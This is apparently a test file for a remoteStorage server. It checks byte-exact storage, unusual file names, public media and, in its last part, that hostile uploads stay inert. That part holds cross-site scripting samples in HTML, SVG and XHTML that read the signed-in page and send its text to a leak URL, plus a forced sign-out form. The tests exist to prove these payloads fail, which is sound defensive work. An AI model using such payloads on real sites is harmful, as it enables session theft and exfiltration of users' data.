/** The server stores what apps send, byte for byte, and returns it to them: §3 to §6. */

import type { Locator } from "playwright-core";
import { describe, expect, vi } from "vitest";
import {
  fetchStored,
  list,
  readBytes,
  readText,
  remove,
  storeBytes,
  storeText,
} from "./support/app";
import { RELEASES } from "./support/app-server";
import { storeFile } from "./support/files";
import { testWithApps } from "./support/open-apps";
import { signUp } from "./support/steps";
import { STEP_TIMEOUT_MS } from "./support/test-site";

const WAIT = { timeout: STEP_TIMEOUT_MS, interval: 100 };

const ALL_BYTES = Uint8Array.from({ length: 1024 }, (_, index) => (index * 7 + (index >> 8)) & 255);

const NAMES = [
  "two words",
  "ünïcödé",
  "e\u0301 decomposed",
  "日本語",
  "🎒 emoji 👩‍👩‍👧",
  "100%",
  "%41",
  "%2F",
  'quo"te',
  "apo'strophe",
  "a+b",
  "(round) [square]",
  "#hash",
  "what?",
  "a&b=c",
  ".hidden",
  "..two dots",
  "...",
  "semi;colon, comma: $@~!*",
  "back\\slash",
  "<tag>{curly}|^`",
  " blanks ",
];

const test = testWithApps(1);

describe.each(RELEASES)("remotestorage.js %s", (release) => {
  test("§4 text is stored, listed, read, changed and removed", async ({ openApps }) => {
    const [page] = await openApps(release);
    await storeText(page, "text/hello", "Grüße, 世界 🎒\r\n\0");
    expect(await list(page, "text/")).toEqual(["hello"]);
    expect(await readText(page, "text/hello")).toBe("Grüße, 世界 🎒\r\n\0");
    await storeText(page, "text/hello", "Changed");
    expect(await readText(page, "text/hello")).toBe("Changed");
    const { headers } = await fetchStored(page, "/notes/text/hello");
    expect(headers.get("Content-Type")).toMatch(/^text\/plain/);

    await remove(page, "text/hello");
    expect(await list(page, "text/")).toEqual([]);
    expect(await readText(page, "text/hello")).toBeUndefined();
    expect((await fetchStored(page, "/notes/text/hello")).status).toBe(404);
  });

  test("§4 an object is stored, and read unchanged", async ({ openApps }) => {
    const [page] = await openApps(release);
    const note = { text: "Grüße 🎒", tags: ["a", "b"], nested: { empty: null, number: 0.5 } };
    await page.evaluate((note) => window.documents.storeObject("note", "one", note), note);
    const found = await page.evaluate(() => window.documents.getObject("one", false));
    expect(found).toMatchObject(note);
    expect(await (await fetchStored(page, "/notes/one")).json()).toEqual(found);
  });

  test("§4 binary data is stored byte for byte", async ({ openApps }) => {
    const [page] = await openApps(release);
    await storeBytes(page, "bytes", ALL_BYTES);
    const response = await fetchStored(page, "/notes/bytes");
    expect(new Uint8Array(await response.arrayBuffer())).toEqual(ALL_BYTES);
    expect(response.headers.get("Content-Type")).toMatch(/^application\/octet-stream/);
    // 2.0.0-beta.10 reads binary documents as text, from any server.
    if (release === "1.2.3") expect(await readBytes(page, "bytes")).toEqual(ALL_BYTES);
  });

  test("§4 a document of several megabytes is stored", async ({ openApps }) => {
    const [page] = await openApps(release);
    const length = 3 * 1024 * 1024 + 1;
    await page.evaluate((length) => {
      const bytes = Uint8Array.from({ length }, (_, index) => (index * 31 + (index >> 8)) & 255);
      return window.documents.storeFile("application/octet-stream", "large", bytes.buffer);
    }, length);
    const bytes = new Uint8Array(await (await fetchStored(page, "/notes/large")).arrayBuffer());
    expect(bytes.length).toBe(length);
    expect(bytes.every((byte, index) => byte === ((index * 31 + (index >> 8)) & 255))).toBe(true);
  });

  test("§4 an empty document is stored and listed", async ({ openApps }) => {
    const [page] = await openApps(release);
    await storeText(page, "empty/document", "");
    expect(await list(page, "empty/")).toEqual(["document"]);
    const response = await fetchStored(page, "/notes/empty/document");
    expect(response.status).toBe(200);
    expect(await response.text()).toBe("");
  });

  test("§3 every name is listed as it was given", async ({ openApps }) => {
    const [page] = await openApps(release);
    for (const name of NAMES) await storeText(page, `names/${name}`, `Text of ${name}`);
    expect(await list(page, "names/")).toEqual([...NAMES].sort());
    for (const name of NAMES) expect(await readText(page, `names/${name}`)).toBe(`Text of ${name}`);
    for (const name of NAMES) await remove(page, `names/${name}`);
    expect(await list(page, "names/")).toEqual([]);
  });

  test("§4 folders appear and disappear with their documents, whatever their names", async ({
    openApps,
  }) => {
    const [page] = await openApps(release);
    await storeText(page, "2026/ünï 🎒/100% + #1/deep", "Deep");
    await storeText(page, "2026/beside", "Beside");
    expect(await list(page)).toContain("2026/");
    expect(await list(page, "2026/")).toEqual(["beside", "ünï 🎒/"]);
    expect(await list(page, "2026/ünï 🎒/")).toEqual(["100% + #1/"]);
    expect(await readText(page, "2026/ünï 🎒/100% + #1/deep")).toBe("Deep");
    await remove(page, "2026/ünï 🎒/100% + #1/deep");
    expect(await list(page, "2026/")).toEqual(["beside"]);
    expect(await list(page, "2026/ünï 🎒/")).toEqual([]);
  });

  test("§9 a public document is readable without a token, by fetch and as an image", async ({
    site,
    openApps,
  }) => {
    const [page] = await openApps(release);
    const url = await page.evaluate(async () => {
      const canvas = Object.assign(document.createElement("canvas"), { width: 7, height: 5 });
      const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, "image/png"));
      const bytes = (await blob?.arrayBuffer()) as ArrayBuffer;
      await window.publicDocuments.storeFile("image/png", "a picture.png", bytes);
      return window.publicDocuments.getItemURL("a picture.png");
    });
    expect(url).toContain("/public/notes/a%20picture.png");

    const anonymous = await (await site.openContext()).newPage();
    await anonymous.goto(`${site.apps.origin}/blank`);
    const received = await anonymous.evaluate(async (url) => {
      const response = await fetch(url);
      const image = new Image();
      image.src = url;
      await image.decode();
      const { naturalWidth: width, naturalHeight: height } = image;
      return { type: response.headers.get("Content-Type"), width, height };
    }, url);
    expect(received).toEqual({ type: expect.stringMatching(/^image\/png/), width: 7, height: 5 });
  });
});

test("§9 public pictures and recordings open in a tab and in an app, and recordings seek", async ({
  site,
  openApps,
}) => {
  const [page] = await openApps("1.2.3");
  const [picture, recording] = await page.evaluate(async () => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 7, height: 5 });
    const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, "image/png"));
    // A minute of silence: 8,000 samples of 16 bits a second.
    const wave = new DataView(new ArrayBuffer(44 + 960_000));
    const header = [0x46464952, 36 + 960_000, 0x45564157, 0x20746d66, 16, 0x10001, 8000, 16_000];
    for (const [index, word] of [...header, 0x100002, 0x61746164, 960_000].entries()) {
      wave.setUint32(index * 4, word, true);
    }
    await window.publicDocuments.storeFile(
      "image/png",
      "picture",
      (await blob?.arrayBuffer()) as ArrayBuffer,
    );
    await window.publicDocuments.storeFile("audio/wav", "recording", wave.buffer);
    const url = (name: string) => window.publicDocuments.getItemURL(name);
    return [await url("picture"), await url("recording")] as const;
  });
  const stored = await fetch(recording);
  expect(stored.headers.get("Content-Type")).toBe("audio/wav; charset=binary");

  const visitor = await (await site.openContext()).newPage();
  await visitor.goto(picture);
  expect(await visitor.evaluate(() => document.images[0]?.naturalWidth)).toBe(7);
  // Asks again and again, because no event handlers run in a sandboxed document.
  const seek = async (media: Locator) => {
    await vi.waitUntil(
      () => media.evaluate((audio: HTMLMediaElement) => audio.readyState > 0),
      WAIT,
    );
    await media.evaluate((audio: HTMLMediaElement) => {
      audio.currentTime = 50;
    });
    await vi.waitUntil(
      () => media.evaluate((audio: HTMLMediaElement) => !audio.seeking && audio.currentTime === 50),
      WAIT,
    );
  };
  await visitor.goto(recording);
  await seek(visitor.locator("video, audio"));
  await visitor.goto(`${site.apps.origin}/blank`);
  await visitor.evaluate((src) => document.body.append(new Audio(src)), recording);
  await seek(visitor.locator("audio"));
});

describe("§14 a script out of the storage", () => {
  /** Runs in a page: tries to run the script at `url` in each way that there is. Returns what happened. */
  async function runEverywhere(url: string) {
    const loads = (type: string) =>
      new Promise<string>((resolve) => {
        const onload = () => resolve("loaded");
        const onerror = () => resolve("failed");
        const script = Object.assign(document.createElement("script"), { type, onload, onerror });
        document.body.append(Object.assign(script, { src: url }));
      });
    const works = (create: () => EventTarget) =>
      new Promise<string>((resolve) => {
        try {
          create().addEventListener("error", () => resolve("failed"));
        } catch {
          resolve("failed");
        }
      });
    const scope = url.slice(0, url.lastIndexOf("/") + 1);
    return {
      script: await loads("text/javascript"),
      module: await loads("module"),
      worker: await works(() => new Worker(url)),
      sharedWorker: await works(() => new SharedWorker(url)),
      serviceWorker: await navigator.serviceWorker.register(url, { scope }).then(
        () => "loaded",
        () => "failed",
      ),
      hasRun: "attacked" in window,
      text: await fetch(url).then((response) => response.text()),
    };
  }
  const SCRIPT = "self.attacked = true";
  const NOTHING = {
    script: "failed",
    module: "failed",
    worker: "failed",
    sharedWorker: "failed",
    serviceWorker: "failed",
    hasRun: false,
    text: SCRIPT,
  };

  test("does not run on the pages of the same origin, with or without their policy", async ({
    site,
    servers,
  }) => {
    const context = await site.openContext();
    const name = await signUp(site, context);
    await storeFile(site, context, "/public/notes/script", SCRIPT, "text/javascript");
    const url = `${site.url}/storage/${name}/public/notes/script`;
    for (const bypassCSP of [false, true]) {
      // Not `site.newContext`, which fails at a violation of the policy.
      const attacked = await servers.browser.newContext({ bypassCSP });
      const page = await attacked.newPage();
      await page.goto(`${site.url}/sign-in`);
      expect([bypassCSP, await page.evaluate(runEverywhere, url)]).toEqual([bypassCSP, NOTHING]);
      await attacked.close();
    }

    // An app on another origin may keep its own scripts in the storage.
    const other = await context.newPage();
    await other.goto(`${site.apps.origin}/blank`);
    await other.addScriptTag({ url });
    expect(await other.evaluate(() => "attacked" in window)).toBe(true);
  });
});

describe("§14 a malicious document", () => {
  const LEAK = "/leak";
  const attack = (leak: string) => `
    document.title = "attacked";
    window.attacked = true;
    new Image().src = "${leak}";
    fetch("${leak}");
    fetch("/", { credentials: "include" }).then((page) => page.text()).then((text) => {
      location = "${leak}?" + encodeURIComponent(text);
    });`;

  const DOCUMENTS = {
    "text/html": (leak: string) => `<!doctype html><title>Harmless</title>
      <script>${attack(leak)}</script>
      <script src="data:text/javascript,document.title='attacked'"></script>
      <img src="data:," onerror="document.title = 'attacked'">
      <img src="${leak}">
      <body onload="document.title = 'attacked'">
      <iframe src="javascript:parent.document.title = 'attacked'"></iframe>
      <form action="/sign-out" method="post"><button autofocus>Win</button></form>`,
    "image/svg+xml": (leak: string) => `<svg xmlns="http://www.w3.org/2000/svg"
      onload="document.title = 'attacked'"><title>Harmless</title>
      <script>${attack(leak).replaceAll("&", "&amp;")}</script>
      <image href="${leak}"/>
      <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${leak}"/></foreignObject>
      </svg>`,
    "application/xhtml+xml": (leak: string) => `<html xmlns="http://www.w3.org/1999/xhtml">
      <head><title>Harmless</title><script>${attack(leak).replaceAll("&", "&amp;")}</script></head>
      <body onload="document.title = 'attacked'"/></html>`,
  };

  test.for(Object.entries(DOCUMENTS))(
    "of %s runs nothing, whoever opens it",
    async ([type, write], { site }) => {
      const context = await site.openContext();
      const name = await signUp(site, context);
      const leak = site.apps.origin + LEAK;
      await storeFile(site, context, "/public/notes/attack", write(leak), type);
      const url = `${site.url}/storage/${name}/public/notes/attack`;
      const page = await context.newPage();
      const response = await page.goto(url);
      expect(response?.headers()["content-type"]).toContain(type);
      expect(await page.title()).toBe("Harmless");
      expect(await page.evaluate(() => "attacked" in window)).toBe(false);
      expect(await page.evaluate(() => window.origin)).toBe("null");
      // Nor can it act later: its form is not submitted.
      if (type === "text/html") await page.getByRole("button").click();
      expect(site.apps.unknownPaths).not.toContain(LEAK);
      expect(await (await context.request.get(site.url)).text()).toContain("Sign out");
    },
  );
});
